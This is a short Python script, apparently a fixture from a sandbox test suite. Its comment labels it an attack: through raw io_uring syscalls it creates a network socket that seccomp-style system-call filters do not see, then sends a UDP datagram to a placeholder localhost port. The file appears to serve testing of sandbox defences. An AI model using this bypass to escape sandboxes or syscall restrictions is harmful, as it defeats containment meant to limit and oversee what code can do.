# attack: make an AF_INET socket inside the kernel with io_uring (IORING_OP_SOCKET), which no system-call
# filter sees, then send a UDP datagram to the test's port @PORT@
import ctypes
import mmap
import socket
import struct

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_params = ctypes.create_string_buffer(120)  # struct io_uring_params
_ring = _libc.syscall(425, 4, _params)  # io_uring_setup
if _ring < 0:
    raise OSError(ctypes.get_errno(), "io_uring_setup failed")
_sq_entries, _cq_entries = struct.unpack_from("II", _params, 0)
_, _sq_tail, _sq_mask, _, _, _, _sq_array = struct.unpack_from("7I", _params, 40)
_cq_head, _, _cq_mask, _, _, _cqes = struct.unpack_from("6I", _params, 80)
_sq = mmap.mmap(_ring, _sq_array + _sq_entries * 4, offset=0)
_cq = mmap.mmap(_ring, _cqes + _cq_entries * 16, offset=0x8000000)
_sqes = mmap.mmap(_ring, _sq_entries * 64, offset=0x10000000)
# IORING_OP_SOCKET (45): fd = the domain (AF_INET), off = the type (SOCK_DGRAM), len = the protocol
_sqes[0:64] = struct.pack("BBHiQQIIQ", 45, 0, 0, 2, 2, 0, 0, 0, 1) + bytes(24)
_tail = struct.unpack_from("I", _sq, _sq_tail)[0]
struct.pack_into("I", _sq, _sq_array + (_tail & _sq_mask) * 4, 0)
struct.pack_into("I", _sq, _sq_tail, _tail + 1)
_libc.syscall(426, _ring, 1, 1, 1, None, 0)  # io_uring_enter: submit one, wait for one
_head = struct.unpack_from("I", _cq, _cq_head)[0]
_fd = struct.unpack_from("QiI", _cq, _cqes + (_head & _cq_mask) * 16)[1]
if _fd < 0:
    raise OSError(-_fd, "IORING_OP_SOCKET failed")
print("SOCKET-MADE @MARK@", flush=True)
socket.socket(fileno=_fd).sendto(b"datagram @MARK@", ("127.0.0.1", int("@PORT@")))
